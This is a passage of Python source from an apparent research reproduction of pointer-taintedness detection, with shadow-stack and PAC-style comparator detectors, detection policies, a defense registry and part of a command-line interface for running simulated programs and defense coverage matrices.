    Matches the information the paper prints in its alert lines, e.g.
    ``44d7b0: sw $21,0($3)   $3=0x1002bc20``.
    """

    pc: int
    kind: str
    disassembly: str
    pointer_value: int
    taint_mask: int
    instruction_index: int = 0
    detail: str = ""
    #: Provenance chain in label mode: the :class:`repro.taint.labels.
    #: TaintLabel` records whose input bytes the dereferenced pointer
    #: derives from.  Empty in bit mode.  Not part of ``__str__`` so the
    #: rendered alert line (and every digest built on it) is identical
    #: across modes.
    provenance: Tuple = ()

    def __str__(self) -> str:
        return (
            f"{self.pc:x}: {self.disassembly}   "
            f"pointer={self.pointer_value:#010x} taint={self.taint_mask:#x}"
        )

    def describe_provenance(self) -> List[str]:
        """Human-readable provenance lines (empty in bit mode)."""
        return [label.describe() for label in self.provenance]


class SecurityException(Exception):
    """Raised at instruction retirement when a malicious instruction retires.

    The simulated operating system catches this exception and terminates the
    attacked process, defeating the ongoing intrusion.
    """

    def __init__(self, alert: Alert) -> None:
        super().__init__(str(alert))
        self.alert = alert
