"""PAC-style pointer-authentication comparator defense ("PAC it up").

ARMv8.3 pointer authentication signs a pointer with a keyed MAC when it
is spilled and authenticates it when it is reloaded; a corrupted pointer
fails authentication before it can be used.  The MiniC compiler emits the
**sign/auth sites** (see :mod:`repro.cc.codegen`): every function
prologue's return-address spill carries a ``pac_sign`` label and every
epilogue's reload carries a ``pac_auth`` label, covering return addresses
and any code pointer the compiler spills through an instrumented site.

This detector models the hardware side: at a sign site it records
``MAC(key, address, value)`` for the stored pointer; at an auth site it
recomputes the MAC over the reloaded value and raises
:class:`~repro.defenses.alerts.SecurityException` on mismatch.  Like real
PAC it protects exactly the pointers the *compiler* instruments: a
smashed return address is caught at the epilogue reload, but attacks on
non-control data (uid words, configuration strings, heap link pointers)
never pass through a sign/auth pair and are missed -- the coverage gap
the defense matrix quantifies against pointer taintedness.

Hook point: ``InstructionRetired``, filtered by a site table built from
the executable's symbol table (label names carry ``pac_sign_`` /
``pac_auth_``), so the per-instruction cost is one dict probe.
"""

from __future__ import annotations

import re
from typing import Dict

from ..core.events import InstructionRetired
from .alerts import Alert, KIND_PAC, SecurityException
from .base import Detector

__all__ = ["PacDetector", "pac_sites"]

_MASK32 = 0xFFFFFFFF

#: Compiler-internal label grammar for instrumented sites (see
#: ``repro.cc.codegen.CodeGenerator._emit_function``).
_SITE_RE = re.compile(r"^\.L.*pac_(sign|auth)_")

#: Default signing key: any fixed 32-bit secret works for the model; real
#: PAC keys live in privileged registers the attacked process cannot read.
DEFAULT_KEY = 0x5F3759DF


def pac_sites(executable) -> Dict[int, str]:
    """Site table ``pc -> "sign" | "auth"`` from an executable's symbols."""
    sites: Dict[int, str] = {}
    for name, addr in executable.symbols.items():
        match = _SITE_RE.match(name)
        if match is not None:
            sites[addr] = match.group(1)
    return sites


class PacDetector(Detector):
    """Keyed-MAC pointer signing over compiler-emitted sign/auth sites."""

    name = "pac"

    def __init__(self, key: int = DEFAULT_KEY) -> None:
        super().__init__()
        self.key = key & _MASK32
        #: Signed-pointer MACs by spill address.
        self._macs: Dict[int, int] = {}
        self._handler = None

    def _mac(self, addr: int, value: int) -> int:
        """A keyed 32-bit MAC (QARMA stand-in: mix, not crypto)."""
        x = (value ^ self.key) & _MASK32
        x = (x * 0x9E3779B1) & _MASK32
        x ^= (addr * 0x85EBCA77) & _MASK32
        x ^= x >> 15
        return (x * 0xC2B2AE35) & _MASK32

    def attach(self, machine) -> "PacDetector":
        super().attach(machine)
        sites = pac_sites(machine.executable)
        values = machine.regs.values
        macs = self._macs

        def on_retired(event: InstructionRetired) -> None:
            kind = sites.get(event.pc)
            if kind is None:
                return
            instr = event.instr
            # Both site shapes are ``op $rt, imm($rs)`` and neither sw
            # nor lw writes its base register, so the effective address
            # is still computable after retirement.
            addr = (values[instr.rs] + instr.imm) & _MASK32
            self.checks += 1
            if kind == "sign":
                macs[addr] = self._mac(addr, values[instr.rt])
                return
            expected = macs.pop(addr, None)
            if expected is None:
                return  # reload through an uninstrumented spill
            loaded = values[instr.rt]
            if self._mac(addr, loaded) == expected:
                return
            alert = Alert(
                pc=event.pc,
                kind=KIND_PAC,
                disassembly=instr.text or instr.name,
                pointer_value=loaded,
                taint_mask=0,
                instruction_index=event.index,
                detail=f"pointer authentication failed for [{addr:#010x}]",
            )
            self.alerts.append(alert)
            raise SecurityException(alert)

        self._handler = machine.events.subscribe(InstructionRetired, on_retired)
        return self

    def detach(self) -> None:
        if self._machine is not None and self._handler is not None:
            self._machine.events.unsubscribe(InstructionRetired, self._handler)
        self._handler = None
        super().detach()

    def reset(self) -> None:
        super().reset()
        self._macs.clear()

    @property
    def signed_live(self) -> int:
        """Signed-but-not-yet-authenticated spill count (diagnostics)."""
        return len(self._macs)
