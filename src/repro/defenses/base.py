"""The pluggable-defense interface: detectors as machine observers.

A :class:`Detector` is one defense mechanism evaluated by the coverage
matrix (ROADMAP item 4): the paper's pointer-taintedness detection, a
shadow-stack/CFI checker, or PAC-style pointer signing.  Detectors are
*observers* of one machine -- they subscribe to event-bus hook points
(``InstructionRetired`` for the comparators) or, for the taintedness
defense, wrap the machine's inline check path -- and report malicious
instructions by raising :class:`~repro.defenses.alerts.SecurityException`,
which both engines deliver at retirement exactly like the paper's
security exception.

Like every other event-bus subscriber, detector state is **not** part of
machine snapshots: rollback restores architectural state while observers
persist (the same contract the tracing and metrics layers rely on).
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Dict, List, Optional

from .alerts import Alert
from .policy import DetectionPolicy, NullPolicy

if TYPE_CHECKING:  # pragma: no cover
    from ..cpu.machine import MachineState

__all__ = ["Detector"]


class Detector:
    """Base class for pluggable defenses.

    Subclasses override :meth:`attach`/:meth:`detach` to subscribe their
    hook points and :meth:`default_policy` to name the
    :class:`DetectionPolicy` the machine should run under when this
    detector is the *active* defense (the comparators run over an
    unprotected taint plane so the taintedness check cannot preempt
    them).
    """

    #: Registry name; subclasses override.
    name: str = "detector"

    def __init__(self) -> None:
        self.alerts: List[Alert] = []
        #: How many hook-point events this detector inspected.
        self.checks: int = 0
        self._machine: Optional["MachineState"] = None

    # ------------------------------------------------------------------
    # lifecycle
    # ------------------------------------------------------------------

    def default_policy(self) -> DetectionPolicy:
        """Machine policy when this detector is the active defense."""
        return NullPolicy()

    def attach(self, machine: "MachineState") -> "Detector":
        """Subscribe this detector's hook points to ``machine``."""
        if self._machine is not None:
            raise RuntimeError(f"detector {self.name!r} already attached")
        self._machine = machine
        return self

    def detach(self) -> None:
        """Remove all subscriptions (no-op when not attached)."""
        self._machine = None

    def reset(self) -> None:
        """Clear alerts and counters (e.g. between benchmark iterations)."""
        self.alerts.clear()
        self.checks = 0

    # ------------------------------------------------------------------
    # reporting
    # ------------------------------------------------------------------

    def summary(self) -> Dict[str, object]:
        """The per-detector entry of the ``stats.defenses`` result block."""
        return {"alerts": len(self.alerts), "checks": self.checks}

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return (
            f"<{type(self).__name__} name={self.name!r} "
            f"alerts={len(self.alerts)} checks={self.checks}>"
        )
