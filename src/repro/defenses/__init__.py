"""Pluggable defenses: the paper's detector and the mechanisms it beats.

This package extracts detection out of ``repro.core`` into a defense
layer with a uniform interface (ROADMAP item 4):

* :mod:`repro.defenses.alerts` -- the alert vocabulary all defenses share;
* :mod:`repro.defenses.policy` -- detection policies (which dereference
  kinds the inline taintedness check inspects);
* :mod:`repro.defenses.base` -- the :class:`Detector` observer protocol;
* :mod:`repro.defenses.taintedness` -- the paper's pointer-taintedness
  detection (inline hot path) plus its :class:`Detector` adapter;
* :mod:`repro.defenses.shadow_stack` -- hardware shadow-stack comparator;
* :mod:`repro.defenses.pac` -- PAC-style pointer-signing comparator;
* :mod:`repro.defenses.registry` -- name -> detector resolution shared by
  the CLI, the Session facade, and the evalx defense matrix.

``repro.core.detector`` and ``repro.core.policy`` remain as import-compat
shims re-exporting from here.
"""

from .alerts import (
    CONTROL_KINDS,
    DATA_KINDS,
    KIND_ANNOTATION,
    KIND_JUMP,
    KIND_LOAD,
    KIND_PAC,
    KIND_RETURN,
    KIND_STORE,
    Alert,
    SecurityException,
)
from .base import Detector
from .pac import PacDetector
from .policy import (
    ControlDataPolicy,
    DetectionPolicy,
    NullPolicy,
    PointerTaintPolicy,
)
from .registry import DEFENSES, DetectorRegistry, resolve_defense
from .shadow_stack import ShadowStackDetector
from .taintedness import TaintednessDefense, TaintednessDetector

__all__ = [
    "Alert",
    "SecurityException",
    "KIND_LOAD",
    "KIND_STORE",
    "KIND_JUMP",
    "KIND_ANNOTATION",
    "KIND_RETURN",
    "KIND_PAC",
    "DATA_KINDS",
    "CONTROL_KINDS",
    "DetectionPolicy",
    "PointerTaintPolicy",
    "ControlDataPolicy",
    "NullPolicy",
    "Detector",
    "TaintednessDetector",
    "TaintednessDefense",
    "ShadowStackDetector",
    "PacDetector",
    "DetectorRegistry",
    "DEFENSES",
    "resolve_defense",
]
