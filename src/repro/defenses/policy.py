"""Detection policies: the paper's defense and the baselines it is compared to.

* :class:`PointerTaintPolicy` -- the paper's contribution.  Every dereference
  of a tainted word (load address, store address, or jump-register target)
  raises an alert.  Detects both control-data and non-control-data attacks.
* :class:`ControlDataPolicy` -- models control-flow-integrity style defenses
  (Minos, Secure Program Execution): identical taint machinery, but only
  *control transfers* are checked.  Non-control-data attacks slip through.
* :class:`NullPolicy` -- an unprotected processor; nothing is checked.  Used
  to demonstrate that the replayed attacks actually succeed when undefended,
  and as the machine policy under the comparator defenses (shadow stack,
  PAC), which detect through the event bus instead of the taint plane.

Policies also carry the taint-tracking configuration knobs the paper
describes as compatibility concessions (compare-untaint, the XOR zero idiom),
so ablation benchmarks can toggle them.
"""

from __future__ import annotations

from dataclasses import dataclass, replace
from typing import FrozenSet


@dataclass(frozen=True)
class DetectionPolicy:
    """Which pointer-dereference kinds are checked, and how taint is tracked.

    Attributes:
        name: Human-readable policy name used in reports.
        checked_kinds: Subset of ``{"load", "store", "jump"}`` to check.
        untaint_on_compare: Apply the Table 1 compare rule (untaint operand
            registers of compare/branch instructions).  Disabling it is the
            ablation the paper discusses in section 4.2 note (4).
        untaint_xor_idiom: Recognize ``XOR r, s, s`` as a zero idiom.
        untaint_and_zero: Apply the AND-with-untainted-zero byte rule.
        track_taint: Master switch; when False no taint is propagated at all
            (used by the section 5.4 overhead benchmarks).
    """

    name: str
    checked_kinds: FrozenSet[str] = frozenset()
    untaint_on_compare: bool = True
    untaint_xor_idiom: bool = True
    untaint_and_zero: bool = True
    track_taint: bool = True

    def checks(self, kind: str) -> bool:
        """True when dereferences of ``kind`` must be checked."""
        return kind in self.checked_kinds

    def with_options(self, **kwargs) -> "DetectionPolicy":
        """Return a variant policy with selected options replaced."""
        return replace(self, **kwargs)


def PointerTaintPolicy(**kwargs) -> DetectionPolicy:
    """The paper's pointer-taintedness detection policy (checks everything)."""
    return DetectionPolicy(
        name="pointer-taintedness",
        checked_kinds=frozenset({"load", "store", "jump"}),
        **kwargs,
    )


def ControlDataPolicy(**kwargs) -> DetectionPolicy:
    """Control-data-only baseline (Minos / Secure Program Execution style)."""
    return DetectionPolicy(
        name="control-data-only",
        checked_kinds=frozenset({"jump"}),
        **kwargs,
    )


def NullPolicy(**kwargs) -> DetectionPolicy:
    """Unprotected processor: taint may be tracked but nothing is checked."""
    return DetectionPolicy(name="unprotected", checked_kinds=frozenset(), **kwargs)
