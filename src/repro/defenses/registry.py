"""Named registry of pluggable defenses.

The registry maps stable defense names (``taintedness``, ``shadow-stack``,
``pac``) to :class:`~repro.defenses.base.Detector` factories so the CLI
(``repro run --defense``, ``repro matrix``), the :class:`repro.api.Session`
facade, and the evalx defense matrix can all resolve defenses the same
way.  A module-level default registry (:data:`DEFENSES`) carries the three
built-ins; tests register throwaway detectors on private instances.
"""

from __future__ import annotations

from typing import Callable, Dict, List, Optional, Union

from .base import Detector
from .pac import PacDetector
from .shadow_stack import ShadowStackDetector
from .taintedness import TaintednessDefense

__all__ = ["DetectorRegistry", "DEFENSES", "resolve_defense"]

DetectorFactory = Callable[[], Detector]


class DetectorRegistry:
    """Name -> detector-factory mapping with Session/CLI resolution."""

    def __init__(self) -> None:
        self._factories: Dict[str, DetectorFactory] = {}

    def register(
        self, name: str, factory: DetectorFactory, replace: bool = False
    ) -> DetectorFactory:
        """Register ``factory`` under ``name``; returns the factory.

        Usable as a decorator on a Detector subclass.  Re-registering an
        existing name raises unless ``replace=True`` (guards against two
        defenses silently shadowing each other).
        """
        if not replace and name in self._factories:
            raise ValueError(f"defense {name!r} already registered")
        self._factories[name] = factory
        return factory

    def names(self) -> List[str]:
        """Registered defense names, in registration order."""
        return list(self._factories)

    def __contains__(self, name: object) -> bool:
        return name in self._factories

    def create(self, name: str) -> Detector:
        """Instantiate a fresh detector for ``name``."""
        try:
            factory = self._factories[name]
        except KeyError:
            known = ", ".join(sorted(self._factories))
            raise KeyError(f"unknown defense {name!r} (known: {known})") from None
        return factory()

    def resolve(self, defense: Union[str, Detector, None]) -> Optional[Detector]:
        """Resolve a user-facing defense spec to a detector instance.

        Accepts a registered name, an already-built :class:`Detector`
        (passed through), or ``None`` (no pluggable defense -- the inline
        taintedness path alone).
        """
        if defense is None:
            return None
        if isinstance(defense, Detector):
            return defense
        return self.create(defense)


#: The default registry with the three built-in defenses.
DEFENSES = DetectorRegistry()
DEFENSES.register("taintedness", TaintednessDefense)
DEFENSES.register("shadow-stack", ShadowStackDetector)
DEFENSES.register("pac", PacDetector)


def resolve_defense(defense: Union[str, Detector, None]) -> Optional[Detector]:
    """Resolve against the default registry (module-level convenience)."""
    return DEFENSES.resolve(defense)
