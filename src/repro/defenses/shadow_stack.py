"""Shadow-stack / CFI comparator defense (hardware-CFI survey, PAPERS.md).

A hardware shadow stack mirrors the call stack in protected storage: every
call pushes its return address, every return checks the jump target
against the protected copy.  It defeats return-address smashing -- the
classic control-data attack -- but it checks **only** ``JR``-to-``$ra``
control transfers.  Attacks that corrupt non-control data (a uid word, a
``CGI-BIN`` configuration string, a heap chunk's link pointers) never
touch a return address and sail straight through, which is exactly the
coverage gap the paper's section 6 argues and the defense matrix
(``repro matrix``) demonstrates.

Hook points: the detector subscribes to ``InstructionRetired`` and
reacts to the three call/return mnemonics:

* ``jal``/``jalr`` -- push the architectural link address (``pc + 4``);
* ``jr $ra`` -- pop and compare against the actual jump target.

A mismatch raises :class:`~repro.defenses.alerts.SecurityException` from
the retirement hook, so both engines deliver the exception with the same
retirement-time semantics as the taintedness detector.  ``longjmp``-style
non-local returns are tolerated the way hardware shadow stacks tolerate
them: on mismatch the stack is popped until a matching frame is found and
only a target matching *no* live frame raises.
"""

from __future__ import annotations

from typing import List

from ..core.events import InstructionRetired
from .alerts import Alert, KIND_RETURN, SecurityException
from .base import Detector

__all__ = ["ShadowStackDetector"]

_MASK32 = 0xFFFFFFFF

#: MIPS link register number ($ra).
_REG_RA = 31


class ShadowStackDetector(Detector):
    """Return-address protection: call/return pairing off the event bus."""

    name = "shadow-stack"

    def __init__(self) -> None:
        super().__init__()
        self._stack: List[int] = []
        self._handler = None

    def attach(self, machine) -> "ShadowStackDetector":
        super().attach(machine)
        values = machine.regs.values
        stack = self._stack

        def on_retired(event: InstructionRetired) -> None:
            instr = event.instr
            name = instr.name
            if name == "jal" or name == "jalr":
                # The link address is architecturally pc + 4 (no delay
                # slots on this machine); pushed even for jalr with a
                # non-$ra link register, matching hardware that snoops
                # the call opcode rather than the register file.
                stack.append((event.pc + 4) & _MASK32)
                return
            if name != "jr" or instr.rs != _REG_RA:
                return
            # jr does not write registers, so after retirement $ra still
            # holds the jump target.
            target = values[_REG_RA]
            self.checks += 1
            if not stack:
                return  # return with no recorded call (e.g. crt0 exit path)
            if stack[-1] == target:
                stack.pop()
                return
            if target in stack:
                # longjmp-style unwind: pop the skipped frames.
                while stack and stack[-1] != target:
                    stack.pop()
                if stack:
                    stack.pop()
                return
            expected = stack[-1]
            alert = Alert(
                pc=event.pc,
                kind=KIND_RETURN,
                disassembly=instr.text or instr.name,
                pointer_value=target,
                taint_mask=0,
                instruction_index=event.index,
                detail=f"shadow stack expected {expected:#010x}",
            )
            self.alerts.append(alert)
            raise SecurityException(alert)

        self._handler = machine.events.subscribe(InstructionRetired, on_retired)
        return self

    def detach(self) -> None:
        if self._machine is not None and self._handler is not None:
            self._machine.events.unsubscribe(InstructionRetired, self._handler)
        self._handler = None
        super().detach()

    def reset(self) -> None:
        super().reset()
        self._stack.clear()

    @property
    def depth(self) -> int:
        """Current shadow-stack depth (tests and diagnostics)."""
        return len(self._stack)
