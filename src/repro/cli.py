"""Command-line interface: run programs on the taint-tracking machine.

Examples::

    python -m repro run victim.c --stdin-text "aaaaaaaaaaaaaaaaaaaaaaaa" --explain
    python -m repro run server.c --policy control-data --arg -g --arg 123
    python -m repro run victim.c --stdin-text attack --metrics --trace-out t.jsonl
    python -m repro asm program.s --stdin-file input.bin
    python -m repro disasm victim.c
    python -m repro report table2
    python -m repro report all
    python -m repro run victim.c --stdin-text attack --taint-labels --explain
    python -m repro forensics victim.c --stdin-text attack --provenance
    python -m repro campaign --builtin pointer-chase --seed 7 --trials 200
    python -m repro campaign victim.c --stdin-text ok --recovery rollback-retry
    python -m repro trace t.jsonl --summary
    python -m repro trace t.jsonl --event TaintedDereference --limit 20

All ``--json`` outputs follow the unified result schema
(:func:`repro.api.validate_result_json`): ``{"kind", "detected",
"stats", "metrics"}`` plus kind-specific extras.
"""

from __future__ import annotations

import argparse
import json
import signal
import sys
from time import perf_counter
from typing import Callable, Dict, Optional, Sequence

from .api import ExecOptions, POLICIES, Session, validate_result_json
from .defenses import DEFENSES
from .core.events import InstructionRetired
from .evalx import experiments
from .evalx.forensics import explain
from .isa.assembler import assemble
from .libc.build import build_program
from .obs.trace import read_trace, render_trace, summarize_trace

__all__ = ["POLICIES", "REPORTS", "main"]

#: report subcommand choices -> renderers (each accepts ``workers=``).
REPORTS: Dict[str, Callable[..., str]] = {
    "fig1": experiments.report_fig1,
    "fig2": experiments.report_fig2,
    "table2": experiments.report_table2,
    "table3": experiments.report_table3,
    "table4": experiments.report_table4,
    "sec54": experiments.report_sec54,
    "coverage": experiments.report_coverage_matrix,
    "matrix": experiments.report_defense_matrix,
}


def _add_observability_options(p: argparse.ArgumentParser) -> None:
    p.add_argument("--metrics", action="store_true",
                   help="collect and print the metrics registry")
    p.add_argument("--no-superblocks", action="store_true",
                   help="disable the fused superblock dispatch tier "
                        "(results are byte-identical; the toggle exists "
                        "for benchmarking and digest checks)")
    p.add_argument("--trace-out", default=None, metavar="PATH",
                   help="stream a structured JSONL trace to PATH "
                        "(render it later with `repro trace PATH`)")
    p.add_argument("--trace-events", default=None, metavar="CSV",
                   help="comma-separated event types to trace, or 'all' "
                        "(default: every event except InstructionRetired)")
    p.add_argument("--json", dest="json_path", default=None, metavar="PATH",
                   help="write the unified machine-readable result to PATH")


def _build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="repro",
        description=(
            "Pointer-taintedness detection (DSN 2005) -- compile and run "
            "programs on the simulated taint-tracking processor."
        ),
    )
    sub = parser.add_subparsers(dest="command", required=True)

    def add_run_options(p: argparse.ArgumentParser) -> None:
        p.add_argument("file", help="source file")
        p.add_argument(
            "--policy",
            choices=sorted(POLICIES),
            default="paper",
            help="detection policy (default: the paper's)",
        )
        p.add_argument(
            "--defense",
            choices=sorted(DEFENSES.names()),
            default=None,
            help="attach a pluggable defense (comparators run under an "
                 "unprotected policy unless --policy is given explicitly)",
        )
        p.add_argument("--stdin-text", default=None,
                       help="stdin contents (latin-1 text)")
        p.add_argument("--stdin-file", default=None,
                       help="file whose bytes become stdin")
        p.add_argument("--arg", action="append", default=[],
                       help="argv entry (repeatable); argv[0] is the file name")
        p.add_argument("--max-instructions", type=int, default=20_000_000)
        p.add_argument("-O", dest="opt_level", type=int, choices=(0, 1),
                       default=0,
                       help="MiniC optimization level: 0 = legacy oracle "
                            "codegen, 1 = IR pipeline (default 0)")
        p.add_argument("--pipeline", action="store_true",
                       help="use the 5-stage pipeline engine")
        p.add_argument("--caches", action="store_true",
                       help="route data accesses through the L1/L2 hierarchy")
        p.add_argument("--taint-labels", action="store_true",
                       help="run the taint plane in label mode: alerts "
                            "carry input-provenance byte ranges")
        p.add_argument("--explain", action="store_true",
                       help="print a forensic report for the outcome")
        p.add_argument("--trace", action="store_true",
                       help="print every retired instruction "
                            "(index, pc, disassembly)")
        _add_observability_options(p)

    run_parser = sub.add_parser("run", help="compile and run a MiniC program")
    add_run_options(run_parser)

    asm_parser = sub.add_parser("asm", help="assemble and run a raw program")
    add_run_options(asm_parser)

    forensics_parser = sub.add_parser(
        "forensics",
        help="run a MiniC program in label mode and print the forensic "
             "report (who tainted the pointer)",
    )
    add_run_options(forensics_parser)
    forensics_parser.add_argument(
        "--provenance", action="store_true",
        help="render the tainting-input byte ranges for a detected attack",
    )

    disasm_parser = sub.add_parser(
        "disasm", help="print the disassembly of a compiled program"
    )
    disasm_parser.add_argument("file")
    disasm_parser.add_argument(
        "--raw-asm", action="store_true",
        help="treat the input as assembly instead of MiniC",
    )
    disasm_parser.add_argument(
        "-O", dest="opt_level", type=int, choices=(0, 1), default=0,
        help="MiniC optimization level (ignored with --raw-asm)",
    )

    report_parser = sub.add_parser(
        "report", help="regenerate a paper table/figure"
    )
    report_parser.add_argument(
        "name", choices=sorted(REPORTS) + ["all"],
        help="which artifact to regenerate",
    )
    report_parser.add_argument(
        "-j", "--workers", type=int, default=1,
        help="fan row-independent artifacts out to N worker processes "
             "(0 = one per core); tables are byte-identical to -j 1",
    )

    # Imported lazily in _command_campaign; the choices lists here must
    # stay in sync with repro.fault.
    campaign_parser = sub.add_parser(
        "campaign",
        help="run a seeded fault-injection campaign against a program",
    )
    campaign_parser.add_argument(
        "file", nargs="?", default=None,
        help="MiniC victim source (alternative to --builtin)",
    )
    campaign_parser.add_argument(
        "--builtin", default=None,
        help="built-in workload name (pointer-chase, exp1, exp2, exp3)",
    )
    campaign_parser.add_argument("--seed", type=int, default=7)
    campaign_parser.add_argument("--trials", type=int, default=100)
    campaign_parser.add_argument(
        "--engine", choices=("functional", "pipeline"), default="functional"
    )
    campaign_parser.add_argument(
        "--recovery",
        choices=("halt", "kill-process", "rollback-retry"),
        default="halt",
        help="policy applied after detected/crash/timeout trials",
    )
    campaign_parser.add_argument(
        "--kind", action="append", default=[],
        help="restrict fault kinds (repeatable; default: all kinds)",
    )
    campaign_parser.add_argument("--caches", action="store_true",
                                 help="run trials with the L1/L2 hierarchy")
    campaign_parser.add_argument("--taint-labels", action="store_true",
                                 help="run trials with the taint plane in "
                                      "label mode (same digest, provenance "
                                      "available)")
    campaign_parser.add_argument("--stdin-text", default=None,
                                 help="golden-run stdin (latin-1 text)")
    campaign_parser.add_argument("--stdin-file", default=None,
                                 help="file whose bytes become stdin")
    campaign_parser.add_argument("--arg", action="append", default=[],
                                 help="victim argv entry (repeatable)")
    campaign_parser.add_argument(
        "-j", "--workers", type=int, default=1,
        help="run trials on N worker processes (0 = one per core); the "
             "digest is byte-identical to the serial -j 1 run",
    )
    campaign_parser.add_argument(
        "--legacy-restore", action="store_true",
        help="disable the copy-on-write delta checkpoint and the "
             "fast-trigger path: every rollback pays the eager full-copy "
             "restore and faults fire from the legacy event injector "
             "(digest-identical to the default; used by the CI "
             "equivalence gate)",
    )
    campaign_parser.add_argument(
        "--smoke", action="store_true",
        help="CI gate: exit non-zero unless the campaign classified every "
             "trial and detected at least one fault",
    )
    _add_observability_options(campaign_parser)

    matrix_parser = sub.add_parser(
        "matrix",
        help="defense coverage matrix: every attack scenario under every "
             "registered defense (taintedness vs shadow-stack vs PAC)",
    )
    matrix_parser.add_argument(
        "-j", "--workers", type=int, default=1,
        help="fan scenario rows out to N worker processes (0 = one per "
             "core); the table is byte-identical to -j 1",
    )
    matrix_parser.add_argument(
        "--no-overhead", action="store_true",
        help="skip the benign-workload overhead table (faster; the "
             "coverage half is unaffected)",
    )
    matrix_parser.add_argument(
        "--json", dest="json_path", default=None, metavar="PATH",
        help="write the unified machine-readable result to PATH",
    )

    trace_parser = sub.add_parser(
        "trace", help="render, filter, or summarize a saved JSONL trace"
    )
    trace_parser.add_argument("file", help="JSONL trace written by --trace-out")
    trace_parser.add_argument(
        "--event", action="append", default=[],
        help="keep only this event type (repeatable; default: all)",
    )
    trace_parser.add_argument(
        "--pc", default=None,
        help="keep only records at this pc (hex like 0x400120, or decimal)",
    )
    trace_parser.add_argument(
        "--limit", type=int, default=None,
        help="keep only the last N records after filtering",
    )
    trace_parser.add_argument(
        "--summary", action="store_true",
        help="print per-event-type counts instead of the records",
    )

    serve_parser = sub.add_parser(
        "serve",
        help="start the detection-as-a-service gateway (JSON lines over "
             "TCP or a Unix socket)",
    )
    serve_parser.add_argument("--host", default="127.0.0.1")
    serve_parser.add_argument(
        "--port", type=int, default=0,
        help="TCP port to listen on (0 = pick an ephemeral port)",
    )
    serve_parser.add_argument(
        "--unix-socket", default=None, metavar="PATH",
        help="listen on a Unix socket instead of TCP",
    )
    serve_parser.add_argument(
        "-j", "--workers", type=int, default=1,
        help="persistent worker processes (0 = one per core)",
    )
    serve_parser.add_argument(
        "--queue-capacity", type=int, default=64,
        help="max pending jobs before queue_full rejections",
    )
    serve_parser.add_argument(
        "--max-retries", type=int, default=2,
        help="retries for a job whose worker crashed",
    )
    serve_parser.add_argument(
        "--backoff", type=float, default=0.05, metavar="SECONDS",
        help="base for the exponential crash-retry backoff",
    )
    serve_parser.add_argument(
        "--breaker-threshold", type=int, default=5,
        help="consecutive crashes that trip the circuit breaker",
    )
    serve_parser.add_argument(
        "--breaker-cooldown", type=float, default=0.5, metavar="SECONDS",
        help="quarantine window after the breaker trips",
    )
    return parser


def _read_stdin(args: argparse.Namespace) -> bytes:
    if args.stdin_text is not None and args.stdin_file is not None:
        raise SystemExit("use either --stdin-text or --stdin-file, not both")
    if args.stdin_file is not None:
        with open(args.stdin_file, "rb") as handle:
            return handle.read()
    if args.stdin_text is not None:
        return args.stdin_text.encode("latin-1")
    return b""


def _build(path: str, raw_asm: bool, opt_level: int = 0):
    with open(path, "r", encoding="latin-1") as handle:
        source = handle.read()
    if raw_asm:
        return assemble(source)
    return build_program(source, opt_level=opt_level)


def _make_session(args: argparse.Namespace, engine: str) -> Session:
    # The CLI is ExecOptions-native: every flag lands in the one bundle,
    # so no run here ever goes through the deprecated-alias path.
    return Session(options=ExecOptions(
        policy=args.policy if hasattr(args, "policy") else "paper",
        engine=engine,
        use_caches=args.caches,
        metrics=bool(args.metrics) or None,
        trace_out=args.trace_out,
        trace_events=args.trace_events,
        max_instructions=getattr(args, "max_instructions", 20_000_000),
        taint_labels=getattr(args, "taint_labels", False),
        defense=getattr(args, "defense", None),
        superblocks=not getattr(args, "no_superblocks", False),
    ))


def _write_json(path: str, payload: dict) -> None:
    with open(path, "w") as handle:
        json.dump(payload, handle, indent=2, sort_keys=True)
        handle.write("\n")


def _command_run(args: argparse.Namespace, raw_asm: bool,
                 out=sys.stdout) -> int:
    exe = _build(args.file, raw_asm, getattr(args, "opt_level", 0))
    argv = [args.file] + list(args.arg)
    subscribers = []
    if args.trace:
        def _print_retired(event: InstructionRetired) -> None:
            text = event.instr.text or event.instr.name
            out.write(f"[trace] {event.index:>8}  {event.pc:08x}: {text}\n")

        subscribers.append((InstructionRetired, _print_retired))
    session = _make_session(
        args, engine="pipeline" if args.pipeline else "functional"
    )
    result = session.run_executable(
        exe,
        stdin=_read_stdin(args),
        argv=argv,
        subscribers=subscribers,
    )
    policy_name = result.sim.policy.name if result.sim else args.policy
    if getattr(args, "defense", None):
        policy_name = f"{policy_name} + {args.defense}"
    if result.stdout:
        out.write(result.stdout)
        if not result.stdout.endswith("\n"):
            out.write("\n")
    out.write(f"[{policy_name}] {result.describe()}\n")
    if args.explain:
        out.write(explain(result) + "\n")
    if args.metrics and session.metrics is not None:
        out.write(session.metrics.render() + "\n")
    if args.json_path:
        _write_json(args.json_path, result.to_json())
    if result.detected:
        return 2
    if result.outcome in ("fault", "limit"):
        return 3
    return (result.exit_status or 0) & 0xFF


def _command_forensics(args: argparse.Namespace, out=sys.stdout) -> int:
    from .evalx.forensics import provenance_report

    exe = _build(args.file, raw_asm=False,
                 opt_level=getattr(args, "opt_level", 0))
    argv = [args.file] + list(args.arg)
    # Forensics always runs in label mode with a registry: provenance and
    # the taint.labels.* gauges ARE the report.
    session = Session(options=ExecOptions(
        policy=args.policy,
        engine="pipeline" if args.pipeline else "functional",
        use_caches=args.caches,
        metrics=True,
        trace_out=args.trace_out,
        trace_events=args.trace_events,
        max_instructions=args.max_instructions,
        taint_labels=True,
        superblocks=not args.no_superblocks,
    ))
    result = session.run_executable(
        exe, stdin=_read_stdin(args), argv=argv
    )
    out.write(explain(result) + "\n")
    if args.provenance:
        out.write("provenance:\n")
        out.write(provenance_report(result) + "\n")
    gauges = session.metrics.to_dict()["gauges"]
    for name in ("taint.labels.allocated", "taint.labelsets.interned"):
        out.write(f"{name}: {int(gauges.get(name, 0))}\n")
    if args.metrics:
        out.write(session.metrics.render() + "\n")
    if args.json_path:
        _write_json(args.json_path, result.to_json())
    if result.detected:
        return 2
    if result.outcome in ("fault", "limit"):
        return 3
    return (result.exit_status or 0) & 0xFF


def _command_disasm(args: argparse.Namespace, out=sys.stdout) -> int:
    exe = _build(args.file, args.raw_asm, getattr(args, "opt_level", 0))
    out.write(exe.disassembly() + "\n")
    return 0


def _command_campaign(args: argparse.Namespace, out=sys.stdout) -> int:
    from .evalx.fault_report import render_campaign_report
    from .fault import FAULT_KINDS, OUTCOMES

    if (args.file is None) == (args.builtin is None):
